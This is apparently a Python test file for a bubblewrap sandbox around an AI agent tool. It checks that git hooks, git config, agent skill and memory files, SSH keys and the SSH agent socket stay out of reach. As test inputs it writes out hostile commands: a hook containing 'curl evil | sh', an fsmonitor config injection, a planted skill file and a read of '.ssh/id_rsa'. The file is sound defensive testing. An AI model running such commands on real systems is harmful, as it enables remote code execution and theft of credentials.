"""bubblewrap keeps what would run later outside the sandbox read-only, even inside the workspace."""

from __future__ import annotations

import os
import socket
import subprocess
import time

import pytest

from nanohermes.sandbox import SandboxSettings, confine, policy_for
from nanohermes.sandbox.bwrap import is_placeholder
from tests.sandbox.conftest import KEY, NEEDS_BWRAP, run_in
from tests.support.timing import HANG_GUARD_S

pytestmark = NEEDS_BWRAP


def _git_repo(workspace):
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    return workspace / ".git"


def test_git_hooks_cannot_be_written_and_git_reads_still_work(policy, workspace):
    git = _git_repo(workspace)
    (workspace / "a.txt").write_text("one\n")
    subprocess.run(["git", "-C", str(workspace), "add", "a.txt"], check=True)
    subprocess.run(["git", "-C", str(workspace), "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "1"])
    done = run_in(
        policy,
        "echo 'curl evil | sh' > .git/hooks/pre-commit; echo two > a.txt;"
        " git status --short && git diff --stat && git log --oneline | wc -l",
    )
    assert not (git / "hooks" / "pre-commit").exists()
    assert "Read-only file system" in done.stderr
    assert done.stdout.split() == ["M", "a.txt", "a.txt", "|", "2", "+-", "1", "file", "changed,", "1",
                                   "insertion(+),", "1", "deletion(-)", "1"]  # fmt: skip


def test_git_writes_its_directory_outside_the_sandbox_only(policy, workspace):
    git = _git_repo(workspace)
    (workspace / "a.txt").write_text("one\n")
    done = run_in(policy, "git add a.txt")
    assert done.returncode != 0 and "index.lock" in done.stderr and "Read-only file system" in done.stderr
    assert not (git / "index").exists()


def test_git_config_cannot_be_changed(policy, workspace):
    git = _git_repo(workspace)
    before = (git / "config").read_text()
    done = run_in(policy, "git config core.fsmonitor 'touch /tmp/pwned'; echo '[core] pager = evil' >> .git/config")
    assert done.returncode != 0
    assert (git / "config").read_text() == before


def test_a_missing_nanohermes_dir_cannot_be_created_and_nothing_is_left_behind(policy, workspace):
    done = run_in(policy, "mkdir -p .nanohermes/skills/evil && echo x > .nanohermes/skills/evil/SKILL.md")
    assert done.returncode != 0
    assert not (workspace / ".nanohermes").exists()  # the placeholder mount point is gone too


def test_a_missing_git_dir_cannot_be_made_to_hold_hooks(policy, workspace):
    done = run_in(policy, "git init -q . && echo evil > .git/hooks/post-checkout")
    assert done.returncode != 0
    assert not (workspace / ".git").exists()


def test_an_existing_nanohermes_dir_stays_readable_but_unchanged(policy, workspace):
    skills = workspace / ".nanohermes" / "skills"
    skills.mkdir(parents=True)
    (skills / "note.md").write_text("mine")
    done = run_in(policy, "cat .nanohermes/skills/note.md && echo theirs > .nanohermes/skills/note.md")
    assert done.stdout == "mine"
    assert (skills / "note.md").read_text() == "mine"


def test_a_worktree_pointer_file_cannot_be_redirected(policy, workspace):
    (workspace / ".git").write_text("gitdir: /somewhere/else\n")
    done = run_in(policy, "echo 'gitdir: ./evil' > .git")
    assert done.returncode != 0
    assert (workspace / ".git").read_text() == "gitdir: /somewhere/else\n"


def test_the_placeholder_stays_until_the_last_sandbox_using_it_ends(policy, workspace):
    launch = confine(["sleep", "30"], policy, workspace)
    long = subprocess.Popen(
        launch.argv, cwd=workspace, env=launch.environ(os.environ), start_new_session=True, pass_fds=launch.pass_fds
    )
    try:
        deadline = time.monotonic() + HANG_GUARD_S  # a loop that ends as soon as it holds
        while not is_placeholder(workspace / ".nanohermes") and time.monotonic() < deadline:
            time.sleep(0.01)
        run_in(policy, "true")  # a second sandbox starts and ends meanwhile
        assert is_placeholder(workspace / ".nanohermes")
        done = run_in(policy, "mkdir .nanohermes/x")
        assert done.returncode != 0
    finally:
        os.killpg(long.pid, 9)
        long.wait()
        launch.release()
    assert not (workspace / ".nanohermes").exists()


def test_a_placeholder_left_by_a_killed_agent_is_removed_by_the_next_command(policy, workspace):
    stale = workspace / ".nanohermes"
    stale.touch(mode=0o444)
    stale.chmod(0o444)
    run_in(policy, "true")
    assert not stale.exists()


@pytest.mark.parametrize("name", [".nanohermes", ".git"])
def test_a_real_empty_file_of_the_user_is_never_removed(policy, workspace, name):
    mine = workspace / name
    mine.write_text("")  # writable: not a placeholder
    run_in(policy, "true")
    assert mine.exists()


def test_with_home_as_the_workspace_keys_and_the_state_directory_stay_hidden(fake_home, tmp_path):
    state = fake_home / ".nanohermes"
    state.mkdir()
    (state / "memory.json").write_text('{"secret": 1}')
    policy = policy_for(SandboxSettings(), fake_home, state, temp_dir=tmp_path / "private-tmp")
    done = run_in(
        policy,
        "cat .ssh/id_rsa; cat .nanohermes/memory.json; echo evil > .nanohermes/memory.json; echo fine > notes.txt",
    )
    assert KEY not in done.stdout and "secret" not in done.stdout
    assert (state / "memory.json").read_text() == '{"secret": 1}'
    assert (fake_home / "notes.txt").read_text() == "fine\n"


def test_the_ssh_agent_socket_is_out_of_reach(workspace, isolated_home, fake_home, tmp_path, monkeypatch):
    agent = tmp_path / "agent.sock"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(agent))
        server.listen(1)
        monkeypatch.setenv("SSH_AUTH_SOCK", str(agent))
        policy = policy_for(SandboxSettings(), workspace, isolated_home, temp_dir=tmp_path / "private-tmp")
        connect = f"import socket; socket.socket(socket.AF_UNIX).connect({str(agent)!r})"
        done = run_in(policy, f'python3 -c "{connect}"')
        assert done.returncode != 0
        server.setblocking(False)
        with pytest.raises(BlockingIOError):
            server.accept()


def test_git_status_run_inside_the_sandbox_lists_no_placeholder(policy, workspace):
    _git_repo(workspace)
    (workspace / "app.py").write_text("x = 1\n")
    done = run_in(policy, "git status --porcelain --untracked-files=all")
    assert done.returncode == 0, done.stderr
    assert done.stdout.split() == ["??", "app.py"]  # no .nanohermes or .claude placeholder to add
    assert not (workspace / ".nanohermes").exists() and not (workspace / ".claude").exists()


def test_a_placeholder_directory_left_by_a_killed_agent_is_removed_by_the_next_command(policy, workspace):
    stale = workspace / ".nanohermes"
    stale.mkdir()
    stale.chmod(0o555)
    run_in(policy, "true")
    assert not stale.exists()
